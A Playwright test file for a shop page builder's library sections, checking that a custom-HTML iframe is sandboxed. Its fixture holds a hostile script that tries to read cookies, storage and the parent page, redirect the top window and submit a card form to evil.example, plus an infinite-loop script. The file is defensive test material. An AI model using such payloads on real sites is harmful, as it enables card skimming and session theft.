import type { Page } from '@playwright/test'
import { ask, selectTeaHouse, signInDemoOwner } from '../fixtures/owner-api.ts'
import { expect, expectAccessible, tea, test } from '../fixtures/product-test.ts'
import { slide } from '../fixtures/touch.ts'

/** What the frame's hostile scripts try is refused, which browsers log. */
test.use({ expectedErrors: /own-html|sandbox|Content Security Policy|Blocked|Refused/i })

const hostile = `<p>Sizes</p><div style="height:700px"></div><ul id="said"></ul>
<form action="https://evil.example"><input name="card"><button>Pay</button></form>
<script>
  const attempts = {
    parent: () => parent.document.title,
    cookie: () => document.cookie,
    storage: () => localStorage.length,
    top: () => { top.location.href = 'https://evil.example' },
    form: () => { document.forms[0].submit(); return 'sent' },
  }
  for (const [name, attempt] of Object.entries(attempts)) {
    let outcome
    try { outcome = 'reached ' + attempt() } catch (refused) { outcome = 'refused' }
    const line = document.createElement('li')
    line.textContent = name + ' ' + outcome
    document.querySelector('#said').append(line)
  }
  fetch('/api/store/info').then(() => document.title = 'reached', () => document.title = 'refused')
  parent.postMessage({ height: 1e9 }, '*')
</script>`

const section = (type: string, props: Record<string, unknown> = {}) => ({
  id: type,
  type,
  contentType: 'normal',
  props,
})

async function publishPage(page: Page, content: unknown[]): Promise<string> {
  await signInDemoOwner(page.request)
  const { storeId } = await selectTeaHouse(page.request)
  const name = `Library ${Date.now() % 1_000_000}`
  const { id, slug } = await ask<{ id: string; slug: string }>(
    page.request,
    'POST',
    '/page/add-page',
    { storeId, name, content },
  )
  await ask(page.request, 'PUT', '/page/update-page', { pageId: id })
  return tea(`/page/${slug}`)
}

test('sections of the library work on a page, with and without JavaScript', async ({
  page,
  newShopper,
}) => {
  const address = await publishPage(page, [
    section('accordion', { css: 'h3 { letter-spacing: 3px }' }),
    section('tabs'),
    section('countdown', { endsAt: '2099-12-24T18:00' }),
    section('customHtml', { html: hostile, runsScripts: true }),
  ])

  await test.step('the head names the style of each, and no script is needed for it', async () => {
    const plain = await newShopper({ javaScriptEnabled: false })
    await plain.goto(address)
    await expect(plain.locator('link[href*="/accordion-"]')).toHaveCount(1)
    const answer = plain.getByText('Yes, within 30 days')
    await expect(answer).toBeHidden()
    await plain.getByText('Can I send it back?').click()
    await expect(answer).toBeVisible()
    await expect(plain.getByText('Wipe it with a damp cloth')).toBeHidden()
    await plain.getByText('Care', { exact: true }).click()
    await expect(plain.getByText('Wipe it with a damp cloth')).toBeVisible()
    await expect(plain.getByText('Until Thursday').last()).toBeVisible()
  })

  await test.step('own CSS reaches its section only', async () => {
    await page.goto(address)
    const spacingOf = (name: string) =>
      page
        .getByRole('heading', { name })
        .first()
        .evaluate((element) => getComputedStyle(element).letterSpacing)
    expect(await spacingOf('Can I send it back?')).toBe('3px')
    expect(await spacingOf('Good to know')).not.toBe('3px')
  })

  await test.step('the countdown counts once it is hydrated', async () => {
    await page.getByRole('timer').scrollIntoViewIfNeeded()
    await expect(page.getByRole('timer')).toContainText(/\d+days\d\dhours\d\dminutes\d\dseconds/)
    await expectAccessible(page)
  })

  await test.step('own HTML reaches nothing, is as high as it says, within limits', async () => {
    const frame = page.frameLocator('iframe')
    await page.locator('iframe').scrollIntoViewIfNeeded()
    await expect(frame.getByRole('listitem')).toHaveText([
      'parent refused',
      'cookie refused',
      'storage refused',
      'top refused',
      'form reached sent',
    ])
    await expect
      .poll(async () => (await page.locator('iframe').boundingBox())!.height)
      .toBeGreaterThan(700)
    expect((await page.locator('iframe').boundingBox())!.height).toBeLessThanOrEqual(4000)
    // The form was not sent, and the top is where it was.
    await expect(frame.getByText('Sizes')).toBeVisible()
    expect(page.url()).toBe(address)
  })

  await test.step('a type that comes by navigation comes with its style', async () => {
    await page.goto(tea('/about'))
    await expect(page.locator('link[href*="/tabs-"]')).toHaveCount(0)
    await page.evaluate((path) => {
      const link = Object.assign(document.createElement('a'), { href: path, textContent: 'Go' })
      document.querySelector('main')!.prepend(link)
    }, new URL(address).pathname)
    await page.getByRole('link', { name: 'Go', exact: true }).click()
    await expect(page.getByRole('heading', { name: 'Good to know' })).toBeVisible()
    await expect(page.locator('link[href*="/tabs-"]')).toHaveCount(1)
    await expect(page.getByText('Wipe it with a damp cloth')).toBeHidden()
  })

  await test.step('own HTML that runs forever stops nothing but itself', async () => {
    // It asks until the page around it is ready, and has given it this height.
    const html = `<script>
      setInterval(() => {
        parent.postMessage({ height: 1234 }, '*')
        if (innerHeight === 1234) for (;;) {}
      }, 50)
    </script>`
    await page.goto(await publishPage(page, [section('customHtml', { html, runsScripts: true })]))
    const frame = page.locator('iframe')
    await frame.scrollIntoViewIfNeeded()
    await expect.poll(async () => (await frame.boundingBox())!.height).toBe(1234)
    await page.getByRole('button', { name: /^Search/ }).click()
    await expect(page.getByRole('searchbox')).toBeFocused()
    await page.goto(tea('/about'))
  })
})

test('the large view of a gallery goes on by key and by swipe', async ({ newShopper, page }) => {
  const image = '/media/stock/shelf.svg'
  const address = await publishPage(page, [
    section('gallery', {
      items: ['First', 'Second', 'Third'].map((alt) => ({ id: alt, image, alt })),
    }),
  ])
  const shopper = await newShopper({ hasTouch: true })
  await shopper.goto(address)
  const view = (name: string) => shopper.getByRole('dialog', { name })
  const swipe = (x: number, y: number) =>
    slide(shopper, { x: 400, y: 200, width: 0, height: 0 }, { x: 400 + x, y: 200 + y })

  await test.step('the arrow keys go on, and stop at each end', async () => {
    await shopper.getByRole('button', { name: 'Show large: First' }).click()
    await expect(view('First')).toBeVisible()
    await shopper.keyboard.press('ArrowRight')
    await shopper.keyboard.press('ArrowRight')
    await expect(view('Third')).toBeVisible()
    await expect(view('First')).toBeHidden()
    await shopper.keyboard.press('ArrowRight')
    await expect(view('Third')).toBeVisible()
    await view('Third').getByRole('img').click()
    await shopper.keyboard.press('ArrowLeft')
    await expect(view('Second')).toBeVisible()
    await expectAccessible(shopper)
  })

  await test.step('a swipe goes on, a move down does not', async () => {
    await swipe(0, 150)
    await expect(view('Second')).toBeVisible()
    await swipe(-150, 10)
    await expect(view('Third')).toBeVisible()
    await swipe(150, 10)
    await expect(view('Second')).toBeVisible()
  })

  await test.step('Escape closes it and gives the focus back', async () => {
    await shopper.keyboard.press('Escape')
    await expect(view('Second')).toBeHidden()
    await expect(shopper.getByRole('button', { name: 'Show large: Second' })).toBeFocused()
  })
})
